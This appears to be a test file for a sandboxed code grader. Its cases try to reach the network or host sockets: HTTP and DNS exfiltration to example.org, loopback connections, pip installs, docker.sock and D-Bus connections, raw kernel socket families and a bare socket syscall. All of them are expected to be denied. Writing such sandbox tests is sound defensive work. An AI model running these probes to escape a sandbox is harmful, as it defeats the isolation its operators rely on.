"""Attacks over the network, and over everything else that is a socket."""

# ruff: noqa: E501 (the cells are written as a student would)

from __future__ import annotations

from attacks.case import DENIED, HARMLESS, Case, Expected

FAILS = Expected(says="denied|rror")

CASES = [
    Case(
        id="tcp-loopback",
        row="TCP loopback",
        tries="connects to a server on the grader's machine",
        first=["import socket\nattempt('connect', lambda: socket.create_connection(('127.0.0.1', @PORT@), 2))"],
        expected=DENIED,
    ),
    Case(
        id="tcp-loopback-6",
        row="TCP loopback",
        tries="the same over IPv6 and over the address 0.0.0.0",
        first=[
            """
            import socket
            attempt('six', lambda: socket.create_connection(('::ffff:127.0.0.1', @PORT@), 2))
            attempt('zero', lambda: socket.create_connection(('0.0.0.0', @PORT@), 2))
            """
        ],
        expected=DENIED,
    ),
    Case(
        id="tcp-listen",
        row="TCP loopback",
        tries="opens a server of its own for somebody to connect to",
        first=["import socket\nattempt('listen', lambda: socket.create_server(('0.0.0.0', 0)))"],
        expected=DENIED,
    ),
    Case(
        id="udp",
        row="TCP loopback",
        tries="sends a datagram",
        first=["import socket\nattempt('send', lambda: socket.socket(2, 2).sendto(b'x', ('127.0.0.1', @PORT@)))"],
        expected=DENIED,
    ),
    Case(
        id="exfiltration",
        row="exfiltration, DNS",
        tries="sends its answers to a web server",
        first=[
            """
            import urllib.request
            attempt('send', lambda: urllib.request.urlopen('http://example.org/?d=1', timeout=3))
            """
        ],
        expected=DENIED,
    ),
    Case(
        id="dns",
        row="exfiltration, DNS",
        tries="sends its answers in the name that it looks up",
        first=["import socket\nattempt('look up', lambda: socket.getaddrinfo('answers.example.org', 80))"],
        expected=DENIED,
    ),
    Case(
        id="pip-install",
        row="`!pip install x`",
        tries="installs a package with `!pip`",
        first=["!python -m pip install --retries 0 --timeout 2 --disable-pip-version-check x-is-no-package 2>&1"],
        expected=Expected(says="(?i)error|no module|not found", never="Successfully"),
    ),
    Case(
        id="pip-magic",
        row="`!pip install x`",
        tries="installs a package with `%pip`",
        first=["%pip install --retries 0 --timeout 2 --disable-pip-version-check x-is-no-package"],
        expected=Expected(says="(?i)error|no module|not found", never="Successfully"),
    ),
    Case(
        id="vsock",
        row="other sockets",
        tries="opens an AF_VSOCK socket, which no network namespace holds",
        first=["import socket\nattempt('open', lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM))"],
        expected=DENIED,
    ),
    Case(
        id="netlink",
        row="other sockets",
        tries="opens AF_NETLINK and AF_PACKET sockets",
        first=[
            """
            import socket
            attempt('netlink', lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0))
            attempt('packet', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0))
            """
        ],
        expected=DENIED,
    ),
    Case(
        id="crypto-socket",
        row="other sockets",
        tries="opens AF_ALG, AF_BLUETOOTH and AF_TIPC sockets, doors to little-tested parts of the kernel",
        first=[
            """
            import socket
            for family in (38, 31, 30, 44):
                attempt(family, lambda: socket.socket(family, socket.SOCK_SEQPACKET))
            """
        ],
        expected=DENIED,
    ),
    Case(
        id="abstract-socket",
        row="other sockets",
        tries="connects to a unix socket in the abstract name space, where no file permission helps",
        first=[
            """
            import socket
            attempt('connect', lambda: socket.socket(socket.AF_UNIX).connect('\\0@NAME@'))
            """
        ],
        expected=DENIED,
    ),
    Case(
        id="file-socket",
        row="other sockets",
        tries="connects to the machine's own unix sockets (D-Bus, Docker, X11, journald)",
        first=[
            """
            import socket
            for path in ('/run/dbus/system_bus_socket', '/var/run/docker.sock', '/run/systemd/journal/socket', '/tmp/.X11-unix/X0'):
                attempt(path, lambda: socket.socket(socket.AF_UNIX).connect(path))
            """
        ],
        expected=DENIED,
    ),
    Case(
        id="socket-syscall",
        row="other sockets",
        tries="opens a TCP socket by the bare system call, past Python",
        first=[
            """
            import ctypes
            libc = ctypes.CDLL(None, use_errno=True)
            got = libc.syscall(41, 2, 1, 0)
            print('denied' if got < 0 else 'DONE', ctypes.get_errno())
            """
        ],
        expected=DENIED,
    ),
    Case(
        id="socketpair",
        row="honest work",
        tries="honest: asyncio, multiprocessing pipes and a thread pool, which need AF_UNIX pairs",
        first=[
            """
            import asyncio, concurrent.futures, multiprocessing
            async def soon():
                await asyncio.sleep(0.01)
                return 41
            print(await soon() + 1)
            with concurrent.futures.ThreadPoolExecutor(2) as pool:
                print(list(pool.map(abs, [-1, -2])))
            one, other = multiprocessing.Pipe()
            one.send('through')
            print(other.recv())
            """
        ],
        expected=Expected(says="(?s)42.*1, 2.*through"),
    ),
    Case(
        id="subprocess",
        row="honest work",
        tries="honest: runs a program and uses its output",
        first=[
            "files = !echo one two\nprint(files)\nimport subprocess\nprint(subprocess.check_output(['expr', '6', '*', '7']))"
        ],
        expected=Expected(says="(?s)one two.*42"),
    ),
    Case(
        id="honest",
        row="honest work",
        tries="honest: every answer right and nothing else",
        expected=HARMLESS,
    ),
]
